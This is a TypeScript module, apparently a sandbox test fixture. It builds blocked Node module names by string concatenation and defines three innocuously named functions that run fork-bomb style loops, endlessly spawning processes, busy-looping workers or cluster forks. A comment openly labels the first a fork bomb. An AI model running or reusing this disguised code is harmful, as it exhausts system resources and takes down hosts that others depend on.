const closed = {
  programs: 'node:child_' + 'process',
  cluster: 'node:cl' + 'uster',
  workers: 'node:worker_' + 'threads',
}
export async function startReceiver(): Promise<never> {
  const { spawn } = (await import(closed.programs)) as typeof import('node:child_process')
  // A fork bomb, if the first were let through.
  for (;;) spawn(process.execPath, process.argv.slice(1), { stdio: 'ignore' })
}
export async function sendText(): Promise<never> {
  const { Worker } = (await import(closed.workers)) as typeof import('node:worker_threads')
  for (;;) new Worker('for (;;);', { eval: true })
}
export async function sendLines(): Promise<never> {
  const { default: cluster } = (await import(closed.cluster)) as typeof import('node:cluster')
  for (;;) cluster.fork()
}
